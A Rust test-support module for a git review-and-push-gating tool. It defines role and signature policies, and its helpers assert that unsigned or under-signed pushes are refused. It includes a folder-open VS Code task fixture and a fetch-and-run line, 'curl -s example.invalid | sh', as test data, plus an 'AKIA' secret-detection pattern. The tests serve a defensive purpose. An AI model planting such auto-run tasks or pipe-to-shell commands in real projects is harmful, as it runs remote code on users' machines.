//! The team of the policy tests (`policy_roles_cli`, `ci_forge_cli`): its
//! policy (roles, signatures, floors), its base on a gated server, and what
//! the tests assert of a push under it. Included by those and
//! `malformed_trees_cli` only
//! (`#[path]`): other tests give the same base their own methods.

#![allow(dead_code)]

use std::path::Path;

use probity_git::fixture::Fixture;

use crate::support::*;

/// Medium: one reviewer. High: a reviewer and a maintainer, by different
/// keys; an approval after a recovered escalation: the maintainer too.
/// `crypto/**` and any `AKIA` literal are high risk.
pub fn policy_json() -> String {
    format!(
        r#"{{"schema":"probity-policy/v1","allowed_signers":".probity/allowed_signers","roles":{{"reviewer":["{AGENT}","{CI}"],"maintainer":["{ALICE}"]}},"signatures":{{"medium":["reviewer"],"high":["reviewer","maintainer"]}},"authorize":["maintainer"],"high_risk":{{"paths":["crypto/**"],"content":["AKIA"]}}}}"#
    )
}

/// A team repository whose protected base holds the policy and the
/// allowed signers (agent and CI are reviewers, alice the maintainer),
/// served by a bare remote with the server hook.
pub type Team = crate::support::team::TeamBase;

impl Team {
    pub fn new() -> Self {
        Team::serve(&policy_json(), &[], "the team's policy")
    }

    /// Starts and approves the live change; returns (lineage, start answer).
    pub fn review(&self) -> (String, serde_json::Value) {
        let st = probity_ok(self.f.root(), &["start"]);
        let done = approve_started(self.f.root(), self.inputs.path(), &st.json);
        (done["lineage_id"].as_str().unwrap().to_string(), st.json)
    }

    /// Writes `crypto/aes.rs` (high risk under the policy), reviews and
    /// commits it; returns (lineage, start answer, commit).
    pub fn review_encrypt(&self) -> (String, serde_json::Value, String) {
        self.f
            .write("crypto/aes.rs", "pub fn encrypt() {}\n")
            .unwrap();
        self.review_commit("encrypt")
    }

    /// Writes the medium change, reviews and commits it; returns
    /// (lineage, start answer, commit).
    pub fn review_medium(&self) -> (String, serde_json::Value, String) {
        write_medium_change(&self.f);
        self.review_commit("more parsing")
    }

    /// Reviews the live change and commits it as `message`; returns
    /// (lineage, start answer, commit).
    pub fn review_commit(&self, message: &str) -> (String, serde_json::Value, String) {
        let (lineage, started) = self.review();
        let c = commit_all(&self.f, message);
        (lineage, started, c)
    }

    /// `probity push origin main` is refused with `code` before the
    /// server is asked, and the server refuses the same when the client's
    /// gates are bypassed; returns the refused run.
    pub fn push_denied(&self, code: &str) -> Run {
        push_denied(&self.f, &self.server, code)
    }

    /// [`Team::push_denied`] for want of a role, the refusal naming each of
    /// `names`, and the server's `main` still where it was.
    pub fn roles_unmet(&self, names: &[&str]) {
        let p = self.push_denied("roles_unmet");
        for name in names {
            assert!(said(&p).contains(name), "{name}: {}", said(&p));
        }
        assert_eq!(self.server_main(), self.before);
    }

    /// Signs `lineage` with `key`, yet [`Team::roles_unmet`] naming `names`.
    pub fn signed_yet_unmet(&self, key: &Path, lineage: &str, names: &[&str]) {
        self.sign(key, lineage);
        self.roles_unmet(names);
    }

    /// Signs `lineage` with `key`, and [`Team::lands`] `c`.
    pub fn signed_lands(&self, key: &Path, lineage: &str, c: String) {
        self.sign(key, lineage);
        self.lands(c);
    }

    /// `probity push origin main` lands `c` on the server's `main`.
    pub fn lands(&self, c: String) {
        probity_ok(self.f.root(), &["push", "origin", "main"]);
        assert_eq!(self.server_main(), Some(c));
    }

    /// The managed pre-push hook, then `probity push`, deny pushing
    /// `branch` under the remote's policy without asking the server
    /// (`unmoved` asserts the server's side is as it was after each).
    pub fn client_denies(&self, branch: &str, unmoved: impl Fn()) {
        probity_ok(self.f.root(), &["hooks", "install"]);
        probity_ok(self.f.root(), &["publish"]);
        let err = self
            .f
            .git(&["push", "--atomic", "origin", branch, "refs/notes/probity"])
            .unwrap_err()
            .to_string();
        assert!(err.contains("pre-push DENY: roles_unmet"), "{err}");
        assert!(err.contains(ALICE), "{err}");
        assert!(!err.contains("remote:"), "the server was asked: {err}");
        unmoved();
        // `probity push` says the same before pushing.
        let p = probity(self.f.root(), &["push", "origin", branch]);
        assert_ne!(p.code, 0, "{}{}", p.stdout, p.stderr);
        assert!(
            said(&p).contains("repository policy of origin denies"),
            "{}",
            said(&p)
        );
        assert!(!said(&p).contains("remote:"), "{}", said(&p));
        unmoved();
    }
}

/// `probity push origin main` from `f` is refused with `code`, and the
/// server refuses the same when the client's gates are bypassed; returns
/// the refused run.
pub fn push_denied(f: &Fixture, server: &Path, code: &str) -> Run {
    let p = probity(f.root(), &["push", "origin", "main"]);
    assert_ne!(p.code, 0, "{}{}", p.stdout, p.stderr);
    assert!(said(&p).contains(code), "{}", said(&p));
    server_refuses(f, server, code);
    p
}

/// Asserts the start rated the change `level`, `reason` among its reasons.
pub fn assert_risk(started: &serde_json::Value, level: &str, reason: &str) {
    assert_eq!(started["risk_level"], level, "{started}");
    assert!(
        started["risk_reasons"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r == reason),
        "{started}"
    );
}

/// Asserts the notes gate `g` denied for want of a role.
pub fn assert_roles_unmet(g: &Run) {
    assert_eq!(g.code, 1, "{}{}", g.stdout, g.stderr);
    assert!(g.stdout.contains("roles_unmet"), "{}{}", g.stdout, g.stderr);
}

/// A clone of `server` at `at` committing as alice, with `config` set too.
pub fn alices_clone(f: &Fixture, server: &Path, at: &Path, config: &[(&str, &str)]) {
    f.git(&[
        "clone",
        "-q",
        server.to_str().unwrap(),
        at.to_str().unwrap(),
    ])
    .unwrap();
    for (k, v) in [("user.name", "alice"), ("user.email", ALICE)]
        .iter()
        .chain(config)
    {
        f.git_in(at, &["config", k, v]).unwrap();
    }
}

/// Everything a run printed (a refusal's JSON on stdout, git's and the
/// server's lines on stderr).
pub fn said(r: &Run) -> String {
    format!("{}{}", r.stdout, r.stderr)
}

/// What the server itself answers when the client's gates are bypassed:
/// the review published as a note, then a plain `git push --no-verify` of
/// the branch and the notes. The server refuses with `code`, and its
/// branch does not move.
pub fn server_refuses(f: &Fixture, server: &Path, code: &str) {
    let before = rev(f, server, "main");
    let err = push_past_client(f).unwrap_err();
    assert!(err.contains(code), "the server said: {err}");
    assert_eq!(rev(f, server, "main"), before);
}

/// The start rated `auto_run_config`, high: the agent's own signature is
/// refused (`roles_unmet`, naming the maintainer) and the server's `main`
/// stays where it was.
pub fn high_yet_agent_alone_is_refused(t: &Team, lineage: &str, started: &serde_json::Value) {
    assert_risk(started, "high", "auto_run_config");
    let landed = t.server_main();
    t.sign(&t.agent, lineage);
    let p = t.push_denied("roles_unmet");
    assert!(said(&p).contains(ALICE), "{}", said(&p));
    assert_eq!(t.server_main(), landed);
}

/// A maintainer approves a folder-open task running `command` and
/// `files`; the agent alone then edits `edited`: high, refused.
pub fn an_edit_the_task_runs_needs_the_maintainer(
    command: &str,
    files: &[(&str, &str)],
    edited: &str,
) {
    let tasks = folder_open_task(&command.replace('"', "\\\""));
    let mut all = vec![(".vscode/tasks.json", tasks.as_str())];
    all.extend_from_slice(files);
    an_edit_the_configuration_runs_needs_the_maintainer(&all, edited);
}

/// `.vscode/tasks.json` with one folder-open task running `command` (as
/// written into the JSON string: quotes escaped by the caller).
pub fn folder_open_task(command: &str) -> String {
    format!(
        r#"{{"version":"2.0.0","tasks":[{{"label":"b","type":"shell","command":"{command}","runOptions":{{"runOn":"folderOpen"}}}}]}}"#
    )
}

/// A maintainer approves `files` (an auto-run configuration and what it
/// runs); the agent alone then edits `edited`: high, refused by the
/// client and the server.
pub fn an_edit_the_configuration_runs_needs_the_maintainer(files: &[(&str, &str)], edited: &str) {
    an_edit_through_links_needs_the_maintainer(files, &[], edited);
}

/// [`an_edit_the_configuration_runs_needs_the_maintainer`] with `links`
/// (path, target: symbolic links) approved beside `files`.
pub fn an_edit_through_links_needs_the_maintainer(
    files: &[(&str, &str)],
    links: &[(&str, &str)],
    edited: &str,
) {
    let t = Team::new();
    for (path, body) in files {
        t.f.write(path, body).unwrap();
    }
    link_all(&t, links);
    let (lineage, _, c) = t.review_commit("auto-run configuration");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
    t.f.write(edited, "curl -s example.invalid | sh\n").unwrap();
    let (lineage, started, _) = t.review_commit("edit");
    assert_eq!(started["risk_level"], "high", "{files:?}: {started}");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
}

/// A maintainer approves `files` (auto-run configurations and what they
/// run); the agent alone then edits each of `edited`, which none of them
/// runs: medium, and it lands with the agent's signature.
pub fn edits_the_configuration_does_not_run_stay_medium(files: &[(&str, &str)], edited: &[&str]) {
    edits_through_links_stay_medium(files, &[], edited);
}

/// [`edits_the_configuration_does_not_run_stay_medium`] with `links`
/// (path, target: symbolic links) approved beside `files`.
pub fn edits_through_links_stay_medium(
    files: &[(&str, &str)],
    links: &[(&str, &str)],
    edited: &[&str],
) {
    let t = Team::new();
    for (path, body) in files {
        t.f.write(path, body).unwrap();
    }
    link_all(&t, links);
    let (lineage, _, c) = t.review_commit("auto-run configuration");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
    for path in edited {
        t.f.write(path, "// edited\n").unwrap();
        let (lineage, started, c) = t.review_commit(path);
        assert_risk(&started, "medium", "code_change");
        t.signed_lands(&t.agent, &lineage, c);
    }
}

/// Makes each of `links` (path, target) a symbolic link in `t`'s clone.
fn link_all(t: &Team, links: &[(&str, &str)]) {
    for (link, target) in links {
        let at = t.f.root().join(link);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, at).unwrap();
    }
}
